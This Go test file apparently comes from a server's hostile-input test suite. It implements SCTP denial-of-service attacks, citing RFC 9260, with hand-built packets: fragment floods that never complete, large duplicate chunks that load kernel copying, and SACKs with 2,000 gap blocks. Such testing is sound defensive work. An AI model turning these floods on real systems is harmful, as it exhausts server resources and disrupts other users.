package hostile_test

import (
	"bytes"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"math/rand/v2"
	"net/netip"
	"time"
)

// onSCTP has the attacks on SCTP itself, by packets that no SCTP would send.
var onSCTP = []attack{
	{
		name: "SCTP fragments of no message", threat: "RFC 9260 6.9", conns: 2, flood: true,
		over: []way{bySCTP}, only: inPackets,
		raw: func(p *peer) {
			// The first TSN is left out. So nothing completes, whatever comes.
			for a := p.associate(); a.next < a.first+8000; {
				var chunks [][]byte
				for range 70 {
					a.next++
					chunks = append(chunks, a.data(a.next, 0, []byte{1}))
				}
				a.packet(chunks...)
				p.sleep(8 * time.Millisecond)
				if !p.ok() {
					return
				}
			}
		},
	},
	{
		name: "SCTP fragments beside duplicates", threat: "RFC 9260 12", conns: 4, memory: true,
		over: []way{bySCTP}, only: inPackets, flood: true,
		raw: func(p *peer) {
			a := p.associate()
			duplicate := a.data(a.first, 3, make([]byte, 8100))
			// At a faster pace, the kernel is busy with copying at the cost of the bystanders.
			for a.packet(duplicate); p.ok(); p.sleep(8 * time.Millisecond) {
				a.next += 2
				a.packet(a.data(a.next, 0, []byte{1}), duplicate)
				if a.next > a.first+1<<15 {
					p.stay()
				}
			}
		},
	},
	{
		name: "SACKs of one block 2,000 times", threat: "RFC 9260 3.3.4", conns: 1, flood: true,
		over: []way{bySCTP}, only: inPackets,
		raw: func(p *peer) {
			a := p.associate()
			for stream := range uint16(256) { // each is answered, which is not acknowledged
				a.stream = stream
				a.packet(a.data(a.next, 3, []byte{0, 0, 0, 1}))
				a.next++
			}
			sack := binary.BigEndian.AppendUint32([]byte{3, 0, 0, 0}, a.theirs-1)
			sack = binary.BigEndian.AppendUint32(sack, 1<<20)
			sack = append(sack, 2000>>8, 2000&0xff, 0, 0)
			sack = append(sack, bytes.Repeat([]byte{0, 1, 0, byte(a.outstanding())}, 2000)...)
			binary.BigEndian.PutUint16(sack[2:], uint16(len(sack)))
			for p.ok() {
				a.packet(sack)
				p.sleep(2 * time.Millisecond)
			}
		},
	},
}

const inPackets = "packets of SCTP"

// sctpPeer is the attacker's end of an association.
type sctpPeer struct {
	*peer
	src, dst    uint16
	tag         uint32 // the server's
	first, next uint32 // TSNs
	theirs      uint32 // the server's first TSN
	stream      uint16
	b           [1 << 13]byte
}

var errAnswer = errors.New("an unexpected answer")

// associate makes an association.
func (p *peer) associate() *sctpPeer {
	server, err := netip.ParseAddrPort(p.rdma)
	if err != nil {
		p.err = err
	}
	a := &sctpPeer{peer: p, src: uint16(rand.Uint32() | 1<<15), dst: server.Port(), first: 1, next: 1}
	const ours, initAck, cookieAck = 0x11223344, 2, 11
	init := []byte{1, 0, 0, 28}
	init = binary.BigEndian.AppendUint32(init, ours)
	init = append(init, 0, 16, 0, 0, 1, 0, 1, 0, 0, 0, 0, 1, 0xc0, 6, 0, 8, 0, 0, 0, 1)
	answer := a.ask(initAck, init)
	if len(answer) < 20 {
		return a
	}
	a.tag, a.theirs = binary.BigEndian.Uint32(answer[4:]), binary.BigEndian.Uint32(answer[16:])
	for rest := answer[20:]; len(rest) >= 4; {
		n := int(binary.BigEndian.Uint16(rest[2:]))
		if n < 4 || n > len(rest) {
			p.err = errAnswer
			return a
		}
		if kind := binary.BigEndian.Uint16(rest); kind == 7 {
			echo := append([]byte{10, 0, byte(n >> 8), byte(n)}, rest[4:n]...)
			a.ask(cookieAck, echo)
		}
		rest = rest[min((n+3)&^3, len(rest)):]
	}
	return a
}

// ask sends a chunk until a packet comes that begins with another, and returns that.
func (a *sctpPeer) ask(want byte, chunk []byte) []byte {
	for range 10 {
		a.packet(chunk)
		if answer := a.receive(time.Second); len(answer) > 0 && answer[0] == want {
			return answer
		}
	}
	a.err = errAnswer
	return nil
}

// receive returns the chunks of the next packet, or nil if none comes for a time.
func (a *sctpPeer) receive(patience time.Duration) []byte {
	if !a.ok() {
		return nil
	}
	_ = a.conn.SetReadDeadline(time.Now().Add(patience))
	n, err := a.conn.Read(a.b[:])
	if err != nil || n < 16 {
		return nil
	}
	return a.b[12:n]
}

// outstanding returns how many chunks of DATA the server has sent, when no more come.
func (a *sctpPeer) outstanding() uint32 {
	last := a.theirs - 1
	for {
		chunks := a.receive(200 * time.Millisecond)
		if chunks == nil {
			return last + 1 - a.theirs
		}
		for len(chunks) >= 8 {
			if chunks[0] == 0 {
				if tsn := binary.BigEndian.Uint32(chunks[4:]); int32(tsn-last) > 0 {
					last = tsn
				}
			}
			n := (int(binary.BigEndian.Uint16(chunks[2:])) + 3) &^ 3
			chunks = chunks[min(max(n, 4), len(chunks)):]
		}
	}
}

// data returns an unordered DATA chunk with these flags besides.
func (a *sctpPeer) data(tsn uint32, flags byte, data []byte) []byte {
	p := []byte{0, 4 | flags, 0, 0}
	p = binary.BigEndian.AppendUint32(p, tsn)
	p = append(p, byte(a.stream>>8), byte(a.stream), 0, 0, 0, 0, 0, 17)
	p = append(p, data...)
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	return append(p, make([]byte, -len(p)&3)...)
}

// packet sends a packet.
func (a *sctpPeer) packet(chunks ...[]byte) {
	p := binary.BigEndian.AppendUint16(nil, a.src)
	p = binary.BigEndian.AppendUint16(p, a.dst)
	p = binary.BigEndian.AppendUint32(p, a.tag)
	p = append(p, 0, 0, 0, 0)
	p = append(p, bytes.Join(chunks, nil)...)
	binary.LittleEndian.PutUint32(p[8:], crc32.Checksum(p, crc32.MakeTable(crc32.Castagnoli)))
	a.write(p...)
}
